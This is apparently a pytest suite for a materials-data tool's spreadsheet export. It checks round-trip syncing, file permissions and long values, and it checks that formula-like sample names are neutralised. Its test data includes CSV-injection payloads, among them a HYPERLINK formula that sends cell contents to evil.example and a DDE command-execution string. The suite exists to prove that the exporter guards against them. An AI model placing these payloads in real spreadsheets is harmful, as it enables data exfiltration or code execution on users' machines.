"""`layer-sync export`: the server's stacks as an input sheet that syncs back with no writes."""

from __future__ import annotations

import io
import os

import openpyxl
import pytest

from layer_sync.cli import main
from layer_sync.read.stacks import read_stacks
from layer_sync.run.sync import sync_file
from layer_sync.tools.samples import SEED

from .conftest import API_KEY

ENV = {"ATOMSCALE_API_KEY": API_KEY}


@pytest.fixture
def stocked(sandbox):
    sandbox.store.seed([dict(e) for e in SEED])
    # A value a spreadsheet would take for a formula, and a duplicate record on the server.
    sandbox.store.seed([{"id": 2001, "sample_id": 104, "sample_name": "=1+2", "substrate": "Si",
                         "layer_id": 1, "composition_string": "Si", "orientation": "0 0 1"}])
    sandbox.store.seed([{"id": 2002, "sample_id": 104, "sample_name": "=1+2", "substrate": "Si",
                         "layer_id": 1, "composition_string": "Si", "orientation": "111"}])
    sandbox.stats.reset()
    return sandbox


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_then_sync_back_makes_no_writes(stocked, tmp_path, suffix):
    path = tmp_path / f"export{suffix}"
    out = io.StringIO()
    code = main(["export", str(path), "--api-url", stocked.url], environ=ENV, stdout=out,
                stderr=io.StringIO())
    assert code == 0
    assert "Exported 6 layers of 3 target materials" in out.getvalue()
    assert "1 target material without layers is not listed" in out.getvalue()
    assert "1 duplicate layer record" in out.getvalue()
    stocked.stats.reset()
    outcome = sync_file(path, api_key=API_KEY, api_url=stocked.url, report=False)
    assert outcome.exit_code == 0, [i.message for i in outcome.issues]
    assert outcome.counts["unchanged"] == 6 and outcome.requests == {"GET": 1}


def test_exported_workbook_keeps_text_as_text(stocked, tmp_path):
    path = tmp_path / "export.xlsx"
    assert main(["export", str(path), "--api-url", stocked.url], environ=ENV,
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    ws = openpyxl.load_workbook(path)["Layers"]
    rows = {(r[0].value, r[3].value): r for r in ws.iter_rows(min_row=2)}
    assert rows[(101, 1)][6].value == "001" and rows[(101, 1)][6].data_type == "s"
    assert rows[(101, 1)][6].number_format == "@"
    assert rows[(101, 1)][5].value is None  # element_dict: what the formula gives, left blank
    formula_like = rows[(104, 1)][1]
    assert formula_like.value == "=1+2" and formula_like.data_type == "s"  # never a formula
    assert rows[(104, 1)][6].value == "0 0 1"  # the lowest id's record, as the server has it


def test_export_refuses_to_overwrite_and_needs_a_key(stocked, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text("precious")
    err = io.StringIO()
    assert main(["export", str(path), "--api-url", stocked.url], environ=ENV,
                stdout=io.StringIO(), stderr=err) == 2
    assert path.read_text() == "precious" and "--force" in err.getvalue()
    err = io.StringIO()
    assert main(["export", str(tmp_path / "n.csv"), "--api-url", stocked.url], environ={},
                stdout=io.StringIO(), stderr=err) == 2
    assert "ATOMSCALE_API_KEY" in err.getvalue()


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+SrTiO3", "=cmd|' /C calc'!A0",
                 "@SUM(1)", "\tTab start", "\rCR start", "-1.5", "-ve control",
                 "'=quoted", "''double", "'plain"]


@pytest.fixture
def hostile(sandbox):
    sandbox.store.seed([{"id": 3000 + n, "sample_id": 300 + n, "sample_name": name,
                         "substrate": "Si", "layer_id": 1, "composition_string": "SrTiO3",
                         "orientation": "-110"} for n, name in enumerate(HOSTILE_NAMES)])
    sandbox.stats.reset()
    return sandbox


def test_csv_cells_a_spreadsheet_would_run_are_guarded(hostile, tmp_path):
    import csv

    path = tmp_path / "export.csv"
    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        handle.readline()  # the note a spreadsheet user reads first (a title row)
        rows = list(csv.DictReader(handle))
    names = [r["sample_name"] for r in rows]
    assert names == ["'" + n for n in HOSTILE_NAMES[:6]] + [
        "-1.5", "'-ve control", "''=quoted", "''double", "'plain"]
    assert {r["orientation"] for r in rows} == {"-110"}  # Miller indices stay as they are
    for row in rows:  # nothing in the file starts a formula any more
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize("value,written", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+SrTiO3", "'+SrTiO3"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-x", "'-x"), ("-", "'-"),
    ("-110", "-110"), ("-1-10", "-1-10"), ("1-10", "1-10"), ("-1.5", "-1.5"), ("+3", "+3"),
    ("-2e5", "-2e5"), ("-inf", "'-inf"), ("SrTiO3", "SrTiO3"), ("", ""), (12, 12),
    ("'=x", "''=x"), ("''=x", "'''=x"), ("'-110", "''-110"), ("'a", "'a"), ("''a", "''a"),
    ("'", "'"), ("''", "''"),
])
def test_csv_safe(value, written):
    from layer_sync.tools.templates import csv_safe

    assert csv_safe(value) == written


def test_guarded_csv_reads_back_as_the_server_has_it(hostile, tmp_path):
    from layer_sync.read.stacks import read_stacks

    path = tmp_path / "export.csv"
    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    names = [row.values.get("sample_name") for row in read_stacks(path).rows]
    assert names == [name.strip() for name in HOSTILE_NAMES]  # text cells are read trimmed


def test_guarded_csv_syncs_back_with_no_writes(hostile, tmp_path):
    # With sample names compared to the server's (issue 11), this holds only when the reader
    # removes the apostrophe that the export added.
    path = tmp_path / "export.csv"
    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    hostile.stats.reset()
    outcome = sync_file(path, api_key=API_KEY, api_url=hostile.url, report=False)
    assert outcome.exit_code == 0, [i.message for i in outcome.issues]
    assert outcome.requests == {"GET": 1}


def test_exported_files_have_the_users_umask(stocked, tmp_path):
    import stat

    previous = os.umask(0o027)  # this test's process setting, put back below
    try:
        for name in ("e.csv", "e.xlsx"):
            assert main(["export", str(tmp_path / name), "--api-url", stocked.url], environ=ENV,
                        stdout=io.StringIO(), stderr=io.StringIO()) == 0
    finally:
        os.umask(previous)
    assert {stat.S_IMODE((tmp_path / n).stat().st_mode) for n in ("e.csv", "e.xlsx")} == {0o640}


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_value_longer_than_its_cell_may_hold_is_left_blank_and_said(sandbox, tmp_path, suffix):
    """An .xlsx cell would cut a 40,001-character name to 32,767 (and a sync with
    --update-samples would then rename the server's target material to the cut name): such a
    value is left blank, which a sync leaves as it is on the server, and a warning says so."""
    name, mp_id = "N" * 40_001, "mp-" + "1" * 2_000
    sandbox.store.seed([{"id": 1, "sample_id": 101, "sample_name": name, "substrate": "Si",
                         "layer_id": 1, "composition_string": "SrTiO3", "mp_id": mp_id},
                        {"id": 2, "sample_id": 102, "sample_name": "BTO", "substrate": "Si",
                         "layer_id": 1, "composition_string": "BaTiO3"}])
    path = tmp_path / f"export{suffix}"
    err = io.StringIO()
    assert main(["export", str(path), "--api-url", sandbox.url], environ=ENV,
                stdout=io.StringIO(), stderr=err) == 0
    warning = err.getvalue()
    assert ("2 value(s) on the server are longer than a sheet cell of their field may hold"
            in warning)
    assert "sample_name of sample_id 101 layer 1 (40,001 characters)" in warning
    assert "mp_id of sample_id 101 layer 1 (2,003 characters)" in warning
    data = read_stacks(path)
    row = next(r for r in data.rows if r.values["sample_id"] == 101)
    assert row.raw.get("sample_name") in (None, "") and row.raw.get("mp_id") in (None, "")
    sandbox.stats.reset()
    outcome = sync_file(path, api_key=API_KEY, api_url=sandbox.url, report=False,
                        update_samples=True)
    assert outcome.exit_code == 0 and outcome.requests == {"GET": 1}
    assert sandbox.store.target_materials()[0]["sample_name"] == name  # untouched
